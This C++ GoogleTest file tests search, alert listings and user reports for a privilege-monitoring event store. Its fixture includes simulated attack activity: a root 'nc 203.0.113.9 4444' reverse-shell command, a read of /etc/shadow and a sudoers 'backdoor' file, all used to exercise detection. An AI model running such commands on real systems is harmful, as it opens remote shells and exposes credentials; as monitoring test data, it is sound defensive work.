// Search, alert listings and reports over a small store.
#include "store/query.hpp"

#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "store/encode.hpp"
#include "store_test_util.hpp"

namespace privwatch::store {
namespace {

using testing::exec_event;
using testing::kSec;
using testing::kT0;
using testing::TempDir;

class QueryTest : public ::testing::Test {
 protected:
  void SetUp() override {
    st_ = testing::open_store(dir_);
    ASSERT_TRUE(st_);
    ASSERT_TRUE(st_->begin());
    // alice (dba, app-servers) works on Friday 10:00 UTC, escalates to root at 23:30.
    add(exec_event(kT0, "alice", "alice", "/usr/bin/psql", {"psql", "-c", "select 1"}, "s-a"));
    add(exec_event(kT0 + 60 * kSec, "alice", "alice", "/usr/bin/psql", {"psql", "orders"}, "s-a"));
    add(exec_event(kT0 + 13 * 3600 * kSec + 1800 * kSec, "alice", "root", "/usr/bin/nc",
                   {"nc", "203.0.113.9", "4444"}, "s-a"));
    // bob (no roles) on another host and cluster.
    auto b =
        exec_event(kT0 + 120 * kSec, "bob", "bob", "/usr/bin/vim", {"vim", "/etc/shadow"}, "s-b");
    b.attr.host = "db-1";
    b.attr.cluster = "db-servers";
    b.attr.roles = {};
    add(b);
    // A file event with a path.
    model::Event f = exec_event(kT0 + 130 * kSec, "bob", "bob", "/usr/bin/vim", {}, "s-b");
    f.kind = model::EventKind::kFile;
    model::FileData fd;
    fd.path = "/etc/sudoers.d/backdoor";
    f.data = fd;
    f.attr.host = "db-1";
    add(f);
    // Sessions: s-a started, then ended (two versions).
    model::Session s;
    s.id = "s-a";
    s.entry_type = model::EntryType::kSsh;
    s.user = "alice";
    s.human = "alice";
    s.host = "app-3";
    s.roles = {"dba"};
    s.cluster = "app-servers";
    s.client_ip = "198.51.100.7";
    s.start_wall_ns = kT0 - 10 * kSec;
    s.leader_exe = "/usr/sbin/sshd";
    Record r;
    encode_session(s, "app-3", kT0 - 10 * kSec, r);
    ASSERT_TRUE(st_->append(r));
    s.end_wall_ns = kT0 + 14 * 3600 * kSec;
    encode_session(s, "app-3", 0, r);
    ASSERT_TRUE(st_->append(r));
    // Alerts.
    for (int i = 0; i < 3; ++i) {
      model::Alert a;
      a.id = "al" + std::to_string(i);
      a.wall_ns = kT0 + 13 * 3600 * kSec + 1800 * kSec + i;
      a.severity = i == 0 ? model::Severity::kCritical : model::Severity::kLow;
      a.rule = i == 0 ? "reverse_shell" : "rare_exec";
      a.title = i == 0 ? "alice ran nc to 203.0.113.9:4444" : "rare command";
      a.user = "root";
      a.human = "alice";
      a.session_id = "s-a";
      a.roles = {"dba"};
      a.cluster = "app-servers";
      encode_alert(a, "app-3", r);
      ASSERT_TRUE(st_->append(r));
    }
    // An escalation record from a (later) producer, through the generic API.
    Record esc;
    esc.kind = RecordKind::kEscalation;
    esc.wall_ns = kT0 + 13 * 3600 * kSec + 1700 * kSec;
    esc.name = "sudo";
    esc.user = "root";
    esc.human = "alice";
    esc.session = "s-a";
    esc.host = "app-3";
    esc.text = "sudo -i";
    esc.body = R"({"event":{"action":"escalation"}})";
    ASSERT_TRUE(st_->append(esc));
    ASSERT_TRUE(st_->commit());
  }

  void add(const model::Event& ev) {
    Record r;
    encode_event(ev, "app-3", r);
    ASSERT_TRUE(st_->append(r));
  }

  std::vector<uint64_t> seqs(SearchFilter f) {
    auto rows = search(*st_, f);
    EXPECT_TRUE(rows) << (rows ? "" : rows.error().to_string());
    std::vector<uint64_t> out;
    if (rows) {
      for (const auto& r : *rows) out.push_back(r.seq);
    }
    return out;
  }

  TempDir dir_;
  std::unique_ptr<Store> st_;
};

using V = std::vector<uint64_t>;

TEST_F(QueryTest, FieldFilters) {
  SearchFilter f;
  f.user = "alice";  // effective user or the human behind it: includes alice as root
  f.kind = "exec";
  EXPECT_EQ(seqs(f), (V{3, 2, 1}));
  f = {};
  f.host = "db-1";
  EXPECT_EQ(seqs(f), (V{5, 4}));
  f = {};
  f.cluster = "db-servers";
  EXPECT_EQ(seqs(f), (V{4}));
  f = {};
  f.session = "s-b";
  EXPECT_EQ(seqs(f), (V{5, 4}));
  f = {};
  f.role = "dba";
  f.kind = "event";
  EXPECT_EQ(seqs(f), (V{5, 3, 2, 1}));  // the file event kept alice's roles (fixture)
  f = {};
  f.kind = "file";
  EXPECT_EQ(seqs(f), (V{5}));
  f = {};
  f.since_ns = kT0 + 60 * kSec;
  f.until_ns = kT0 + 125 * kSec;
  f.kind = "event";
  EXPECT_EQ(seqs(f), (V{4, 2}));
  f = {};
  f.limit = 2;
  EXPECT_EQ(seqs(f).size(), 2u);
}

TEST_F(QueryTest, FullTextOverCommandsArgumentsAndPaths) {
  SearchFilter f;
  f.text = "203.0.113.9";
  EXPECT_EQ(seqs(f), (V{8, 3}));  // the nc command and the alert's title
  f.kind = "event";
  EXPECT_EQ(seqs(f), (V{3}));
  f = {};
  f.text = "/etc/shadow";
  EXPECT_EQ(seqs(f), (V{4}));
  f.text = "sudoers";
  EXPECT_EQ(seqs(f), (V{5}));
  f.text = "sudo*";
  EXPECT_EQ(seqs(f), (V{11, 5}));  // prefix: the escalation's "sudo -i" and the path
  f.text = "\"select 1\"";
  EXPECT_EQ(seqs(f), (V{1}));
  f.text = "psql orders";  // all words
  EXPECT_EQ(seqs(f), (V{2}));
  f.text = "\"unbalanced AND (";  // user text never becomes FTS syntax
  EXPECT_TRUE(seqs(f).empty());
  f.text = "psql";
  f.user = "bob";
  EXPECT_TRUE(seqs(f).empty());
}

TEST_F(QueryTest, SessionsLatestVersionWins) {
  SearchFilter f;
  f.kind = "session";
  auto rows = search(*st_, f);
  ASSERT_TRUE(rows);
  ASSERT_EQ(rows->size(), 1u);
  EXPECT_EQ((*rows)[0].seq, 7u);
  EXPECT_NE((*rows)[0].body.find("\"end\""), std::string::npos);
  f.latest_sessions = false;
  EXPECT_EQ(seqs(f), (V{7, 6}));
}

TEST_F(QueryTest, AlertsBySeverityAndRule) {
  SearchFilter f;
  f.kind = "alert";
  f.min_severity = *parse_severity("high");
  EXPECT_EQ(seqs(f), (V{8}));
  f.min_severity = -1;
  f.name = "rare_exec";
  EXPECT_EQ(seqs(f), (V{10, 9}));
  f = {};
  f.kind = "bogus";
  auto bad = search(*st_, f);
  ASSERT_FALSE(bad);
  EXPECT_EQ(bad.error().kind, ErrorKind::kInvalidArgument);
  EXPECT_NE(bad.error().hint.find("exec"), std::string::npos);
}

TEST_F(QueryTest, ReportForAUser) {
  ReportQuery q;
  q.user = "alice";
  q.utc = true;
  q.since_ns = kT0 - 3600 * kSec;
  auto rep = build_report(*st_, q);
  ASSERT_TRUE(rep) << rep.error().to_string();
  EXPECT_EQ(rep->commands, 3u);
  ASSERT_FALSE(rep->top_commands.empty());
  EXPECT_EQ(rep->top_commands[0].key, "/usr/bin/psql");
  EXPECT_EQ(rep->top_commands[0].count, 2u);
  EXPECT_EQ(rep->escalated_commands, 1u);  // nc as root
  EXPECT_EQ(rep->off_hours_commands, 1u);  // 23:30 UTC
  ASSERT_EQ(rep->top_off_hours_commands.size(), 1u);
  EXPECT_EQ(rep->top_off_hours_commands[0].key, "/usr/bin/nc");
  ASSERT_EQ(rep->sessions.size(), 1u);
  EXPECT_EQ(rep->sessions[0].client_ip, "198.51.100.7");
  EXPECT_FALSE(rep->sessions[0].active);
  EXPECT_EQ(rep->alerts_total, 3u);
  ASSERT_EQ(rep->escalations.size(), 1u);
  EXPECT_EQ(rep->escalations[0].name, "sudo");
  const std::string md = report_markdown(*rep);
  for (const char* s : {"# privwatch report: user alice", "## Sessions", "## Escalations",
                        "## Alerts", "## Top commands", "## Off-hours activity", "reverse_shell",
                        "`/usr/bin/nc`", "198.51.100.7"}) {
    EXPECT_NE(md.find(s), std::string::npos) << s << "\n" << md;
  }
  const auto j = nlohmann::json::parse(report_json(*rep));
  EXPECT_EQ(j["commands"]["total"], 3);
  EXPECT_EQ(j["off_hours"]["commands"], 1);
  EXPECT_EQ(j["alerts"]["by_severity"][0]["key"], "critical");

  // Working hours that cover the evening: nothing off hours.
  q.work_end_hour = 24;
  rep = build_report(*st_, q);
  ASSERT_TRUE(rep);
  EXPECT_EQ(rep->off_hours_commands, 0u);
  // By host and by role.
  ReportQuery h;
  h.host = "db-1";
  rep = build_report(*st_, h);
  ASSERT_TRUE(rep);
  EXPECT_EQ(rep->events, 2u);
  EXPECT_EQ(rep->alerts_total, 0u);
  ReportQuery role;
  role.role = "dba";
  rep = build_report(*st_, role);
  ASSERT_TRUE(rep);
  EXPECT_EQ(rep->alerts_total, 3u);
}

TEST(QueryParse, TimesDurationsSeveritiesAndTextQueries) {
  const uint64_t now = kT0;
  EXPECT_EQ(*parse_time("30d", now), now - 30 * 86400 * kSec);
  EXPECT_EQ(*parse_time("2026-11-20", now), kT0 - 10 * 3600 * kSec);
  EXPECT_EQ(*parse_time("2026-11-20T10:00:00Z", now), kT0);
  EXPECT_FALSE(parse_time("yesterday", now));
  EXPECT_FALSE(parse_time("30x", now));
  // The shared RFC 3339 parser: zoneless = UTC, offsets honoured, every field checked.
  EXPECT_EQ(*parse_time("2026-11-20T10:00:00", now), kT0);
  EXPECT_EQ(*parse_time("2026-11-20 12:00+02:00", now), kT0);
  EXPECT_FALSE(parse_time("2026-02-31", now));  // strptime + timegm read 3 March
  EXPECT_FALSE(parse_time("1960-01-01", now));  // wrapped to a huge uint64 before
  EXPECT_FALSE(parse_time("2026-11-20T10:00:00Zx", now));
  const auto bad = parse_time("2026-13-01", now);
  ASSERT_FALSE(bad);
  EXPECT_NE(bad.error().message.find("'2026-13-01' is not a time"), std::string::npos);
  EXPECT_EQ(*parse_severity("critical"), 4);
  EXPECT_FALSE(parse_severity("urgent"));
  EXPECT_EQ(fts_query("nc 4444"), "\"nc\" \"4444\"");
  EXPECT_EQ(fts_query("pass* \"a b\""), "\"pass\"* \"a b\"");
  EXPECT_EQ(fts_query("x\"y"), "\"x\"\"y\"");  // a quote inside a word stays a character
  EXPECT_EQ(fts_query("   "), "");
}

}  // namespace
}  // namespace privwatch::store
